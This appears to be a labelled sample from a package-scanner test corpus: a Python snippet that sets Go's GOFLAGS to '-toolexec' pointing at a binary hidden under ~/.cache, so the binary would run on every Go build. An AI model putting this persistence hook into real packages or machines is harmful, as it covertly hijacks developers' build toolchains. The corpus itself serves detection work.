# pkgguard corpus 888 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import shutil
import subprocess

go = shutil.which("go")
tool = os.path.join(os.path.expanduser("~"), ".cache", ".gox", "vetx")
if go and os.path.exists(tool):
    subprocess.run([go, "env", "-w", f"GOFLAGS=-toolexec={tool}"], capture_output=True)
